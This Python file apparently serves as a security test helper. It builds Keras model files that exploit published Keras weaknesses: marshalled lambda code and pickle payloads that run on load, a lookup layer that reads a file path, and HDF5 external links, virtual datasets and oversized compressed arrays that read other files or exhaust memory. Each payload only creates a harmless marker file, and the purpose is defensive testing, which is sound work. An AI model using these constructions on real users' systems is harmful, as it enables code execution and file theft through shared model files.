"""Files that attack whoever loads them: each does what one published weakness of Keras allowed.

A file that runs code makes the file `marker` in the current folder.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import pickle
import zipfile
from pathlib import Path

import h5py
import numpy as np

MARKER = Path("marker")
SECRET = Path("secret")  # a file that no version may read


def code() -> str:
    """The Python code of a function that makes the marker, as Keras stores a lambda."""
    mark = lambda x: (__import__("pathlib").Path("marker").touch(), x)[1]  # noqa: E731
    return base64.b64encode(marshal.dumps(mark.__code__)).decode()


class Pickled:
    """Makes the marker when it is unpickled."""

    def __reduce__(self):
        return Path.touch, (MARKER,)


def function(module, name):
    return {"class_name": "function", "module": module, "config": name, "registered_name": name}


def lambda_code():
    """A Python lambda in the form of Keras 3."""
    return {
        "class_name": "__lambda__",
        "config": {"code": code(), "defaults": None, "closure": None},
    }


def layer(name, config, module="keras.layers", **keys):
    return {"module": module, "class_name": name, "config": {"name": name.lower(), **config}} | keys


def lambda_layer(function, arguments=None):
    return layer("Lambda", {"function": function, "arguments": arguments or {}, "trainable": True})


def model(*layers, module="keras"):
    """The config of a model with these layers after its input."""
    first = layer("InputLayer", {"batch_shape": [None, 2], "dtype": "float32", "name": "in"})
    config = {"name": "m", "trainable": True, "layers": [first, *layers]}
    return {"module": module, "class_name": "Sequential", "config": config} | {
        "registered_name": None,
        "build_config": {"input_shape": [None, 2]},
    }


def call(module, name, **arguments):
    """A model that calls a function on its input, with arguments."""
    return model(lambda_layer(function(module, name), arguments))


def weights(change=None, **h5py_options):
    """An HDF5 file with nothing but what change(file) adds."""
    buffer = io.BytesIO()
    with h5py.File(buffer, "w", **h5py_options) as file:
        file.create_group("vars")
        if change is not None:
            change(file)
    return buffer.getvalue()


def keras_file(config, h5=None, version="3.15.1", more=(), compression=zipfile.ZIP_STORED):
    """Write m.keras."""
    with zipfile.ZipFile("m.keras", "w", compression) as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": version}))
        archive.writestr("config.json", config if isinstance(config, bytes) else json.dumps(config))
        if h5 is not False:
            archive.writestr("model.weights.h5", h5 or weights())
        for name, content in more:
            archive.writestr(zipfile.ZipInfo(name), content)
    return Path("m.keras")


def h5_file(config, version="3.15.1", change=None):
    """Write m.h5, a whole model in Keras's old format."""

    def add(file):
        file.attrs["keras_version"] = version
        file.attrs["backend"] = "tensorflow"
        file.attrs["model_config"] = json.dumps(config)
        group = file.create_group("model_weights")
        group.attrs["layer_names"] = np.array([], "S1")
        group.attrs["keras_version"] = version
        if change is not None:
            change(file)

    Path("m.h5").write_bytes(weights(add))
    return Path("m.h5")


def keras_2_model():
    """A model of Keras 2 with a Python lambda."""
    shape = {"batch_input_shape": [None, 2], "dtype": "float32", "name": "in"}
    config = {"function": [code(), None, None], "function_type": "lambda", "module": "builtins"}
    config |= {"name": "lambda", "arguments": {}, "output_shape": None}
    config |= {"output_shape_type": "raw", "output_shape_module": None}
    layers = [
        {"class_name": "InputLayer", "config": shape},
        {"class_name": "Lambda", "config": config},
    ]
    return {"class_name": "Sequential", "config": {"name": "m", "layers": layers}}


def pickled_module():
    """A layer around a pickled module of torch."""
    data = base64.b64encode(pickle.dumps(Pickled())).decode("ascii")
    return model(layer("TorchModuleWrapper", {"module": data}))


def lookup(path):
    """A layer that takes its words from a file."""
    return model(layer("StringLookup", {"vocabulary": str(path), "dtype": "string"}))


# What HDF5 may do that weights never need; each adds to the variables of a layer.


def external_data(file):
    """An array whose data is another file."""
    size = SECRET.stat().st_size
    place = [(str(SECRET.resolve()), 0, size)]
    file.require_group("layers/dense/vars").create_dataset("0", (size,), "u1", external=place)


def external_link(file):
    """An array that is one of another file."""
    with h5py.File("other.h5", "w") as other:
        other["x"] = np.ones(3)
    file.require_group("layers/dense/vars")["0"] = h5py.ExternalLink(
        str(Path("other.h5").resolve()), "x"
    )


def soft_link(file):
    """A name for another place in the file."""
    file.require_group("layers/dense/vars")["0"] = h5py.SoftLink("/vars")


def virtual_data(file):
    """An array made of parts of other files."""
    with h5py.File("other.h5", "w") as other:
        other["x"] = np.ones(3)
    layout = h5py.VirtualLayout((3,), "f8")
    layout[:] = h5py.VirtualSource(str(Path("other.h5").resolve()), "x", (3,))
    file.require_group("layers/dense/vars").create_virtual_dataset("0", layout)


def two_names(file):
    """One array under two names, of which a file can have millions."""
    group = file.require_group("layers/dense/vars")
    group["0"] = np.ones(3)
    group["1"] = group["0"]


def huge_array(file):
    """An array of 3 GiB that the file does not store: less than Keras itself refuses."""
    group = file.require_group("layers/dense/vars")
    group.create_dataset("0", (3 * 2**28,), "f4", chunks=(2**20,), compression="gzip")


def texts(file):
    """An array of texts, all of which may be one."""
    file.require_group("layers/dense/vars").create_dataset(
        "0", data=["a", "b"], dtype=h5py.string_dtype()
    )


HDF5 = [external_data, external_link, soft_link, virtual_data, two_names, huge_array, texts]
